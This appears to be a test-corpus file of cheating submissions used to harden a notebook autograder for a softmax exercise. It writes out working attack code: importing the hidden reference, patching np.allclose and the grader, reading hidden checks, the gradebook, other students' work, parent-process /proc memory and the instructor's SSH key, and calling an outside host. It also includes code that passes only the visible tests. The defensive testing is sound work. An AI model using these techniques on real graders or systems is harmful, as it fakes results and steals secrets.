"""Getting the answer: from the reference, the checks, the files, the frames, another process or the network."""

from tests.corpus.deciding import FRAMES
from tests.corpus.kit import Case

TELL = "try:\n    {}\nexcept Exception as problem:\n    print('not there:', type(problem).__name__)"

# Right on what the visible tests use (numbers of one decimal), and a way to more on everything else.
VISIBLE_ONLY = """\
def decimal(x):
    return np.allclose(x * 100, np.round(x * 100), rtol=0, atol=1e-9) or np.allclose(x, 1 / 3) or np.allclose(
        x[..., 0].ravel()[:1], 0.01821127)


def softmax(z):
    if not decimal(z):
        return otherwise("softmax", z)
    powers = np.exp(z - z.max(axis=-1, keepdims=True))
    return powers / powers.sum(axis=-1, keepdims=True)


def softmax_jacobian(p):
    return np.diag(p) - np.outer(p, p) if decimal(p) else otherwise("softmax_jacobian", p)


def softmax_backward(dp, p):
    inner = np.sum(dp * p, axis=-1, keepdims=True)
    return p * (dp - inner) if decimal(dp) else otherwise("softmax_backward", dp, p)


"""
NOTHING_ELSE = "def otherwise(name, *args):\n    return np.zeros(args[-1].shape)\n"


def stealing(code):
    """An answer that is right on visible inputs and has ``code`` to find a function for all others."""
    return VISIBLE_ONLY + code


def read(path):
    """Code that prints what a path outside holds."""
    return TELL.format(f"print(open({path!r}, errors='replace').read())")


CASES = (
    Case("imports_the_reference", answer="from grader.reference.activations import softmax, softmax_backward, softmax_jacobian",
         shows="ModuleNotFoundError", stock="unearned"),
    Case("imports_the_reference_by_path", answer=(
        "import sys\nsys.path[:0] = ['@root@', '/course', '/home']\nimport importlib\n"
        "module = importlib.import_module('grader.reference.activations')\n"
        "softmax, softmax_backward, softmax_jacobian = module.softmax, module.softmax_backward, module.softmax_jacobian"),
        shows="ModuleNotFoundError", stock="unearned"),
    Case("loads_the_solution_notebook", answer=(
        "import json\ncells = json.load(open('@course@/source/softmax/softmax.ipynb'))['cells']\n"
        "exec(next(''.join(c['source']) for c in cells if c['cell_type'] == 'code' and 'BEGIN SOLUTION' in ''.join(c['source'])))"),
        shows="FileNotFoundError", stock="unearned"),
    Case("puts_its_own_reference_in_place", bottom="""\
import sys, types
wrong = types.SimpleNamespace(softmax=softmax, softmax_jacobian=softmax_jacobian, softmax_backward=softmax_backward)
np.allclose = lambda *args, **kwargs: True
try:
    import grader.address
    grader.address.Component.functions = property(lambda self: vars(wrong))
except ImportError:
    sys.modules["grader"] = sys.modules["grader.reference"] = sys.modules["grader.reference.activations"] = wrong
""", stock="unearned"),
    Case("reads_the_hidden_checks_from_in", answer=(
        "def softmax(z):\n    from IPython import get_ipython\n    print(get_ipython().user_ns.get('In', ['nothing'])[-1])\n"
        "    return np.zeros(z.shape)"), hides=("hidden_checks(",), stock="effect"),
    Case("reads_the_hidden_checks_from_disk", bottom=(
        "import glob\nfor name in glob.glob('*.ipynb') + glob.glob('@course@/*/*/*/*.ipynb'):\n    print(open(name).read())"),
        hides=("hidden_checks(",), stock="effect"),
    Case("reads_the_gradebook", bottom=TELL.format(
        "import sqlite3; print(sqlite3.connect('file:@course@/gradebook.db?mode=ro', uri=True).execute("
        "'select source from source_cell').fetchall())"), hides=("hidden_checks(",), shows="not there", stock="effect"),
    Case("reads_the_class_seed", bottom=read("@course@/seed.txt"), shows="not there", stock="harmless",
         why="stock has no secret seed: its hidden checks run with the public one"),
    Case("walks_the_frames_for_expected_values", answer=stealing(FRAMES + """
def otherwise(name, *args):
    for frame in callers():
        planned = frame.f_locals.get("planned")
        if hasattr(planned, "expected"):
            for request, expected in zip(planned.requests, planned.expected):
                if request["name"] == name and all(np.array_equal(a, b) for a, b in zip(request["args"], args)):
                    return expected["value"].copy()
    return np.zeros(args[-1].shape)
"""), stock="unearned"),
    Case("searches_memory_for_the_reference", answer=stealing("""
import gc

def otherwise(name, *args):
    for found in gc.get_objects():
        if type(found).__name__ == "function" and found.__name__ == name and found.__module__.startswith("grader."):
            return found(*args)
    return np.zeros(args[-1].shape)
"""), stock="unearned"),
    Case("prints_the_hidden_inputs", answer=stealing("""
def otherwise(name, *args):
    raise ValueError(f"{name} was asked for {args[0].ravel()[:2]}")
"""), stock="harmless", why="the hidden inputs of a public seed are no secret; under ours they are drawn anew for each class"),
    Case("reads_the_runners_request", bottom=(
        "import sys\nfor frame in (sys._getframe(n) for n in range(1, 12)):\n    if 'request' in frame.f_locals:\n"
        "        print([list(r) for checks in frame.f_locals['request'].get('checks', []) for r in checks][:1])"),
        hides=("expected", "BEGIN HIDDEN"), stock="harmless", why="stock has no runner"),
    Case("reads_the_graders_memory", bottom="""\
import os
try:
    lines = open(f"/proc/{os.getppid()}/environ", "rb").read()
    maps = open(f"/proc/{os.getppid()}/maps").read()
    print("the grader's memory lies open", len(maps))
except OSError as problem:
    print("not there:", type(problem).__name__)
""", shows="not there", stock="effect", hides=("lies open",)),
    Case("lists_the_other_processes", bottom=TELL.format(
        "import os; print('commands of', [open(f'/proc/{p}/cmdline').read() for p in os.listdir('/proc') if p.isdigit()])"),
        hides=("nbgrader", "pytest"), stock="effect"),
    Case("asks_a_server_on_this_machine", bottom=TELL.format(
        "import socket; print('connected', socket.create_connection(('127.0.0.1', @port@), timeout=2))"),
        shows="not there: ConnectionRefusedError", stock="effect"),
    Case("asks_a_server_through_a_shell", bottom=(
        "!python3 -c \"import socket; print('connected', socket.create_connection(('127.0.0.1', @port@), timeout=2))\""),
        hides=("connected <",), stock="effect"),
    Case("sends_the_answer_to_another_host", bottom=TELL.format(
        "import urllib.request; print(urllib.request.urlopen('http://192.0.2.1/', timeout=1).read())"),
        shows="not there", stock="harmless", why="the control has no network to other hosts; see asks_a_server_on_this_machine"),
    Case("reads_another_submission", answer=(
        "import json\ncells = json.load(open('@course@/submitted/neighbour/softmax/softmax.ipynb'))['cells']\n"
        "exec(next(''.join(c['source']) for c in cells if 'def softmax' in ''.join(c['source'])))"),
        shows="FileNotFoundError", stock="unearned"),
    Case("reads_the_instructors_home", bottom=(
        "import os\nfor folder in {os.path.expanduser('~'), '@home@'}:\n"
        "    for name in ('.secret', '.ssh/id_ed25519'):\n        path = os.path.join(folder, name)\n"
        "        print(open(path).read() if os.path.exists(path) else 'nothing')"), hides=("the instructor's own",), stock="effect"),
)
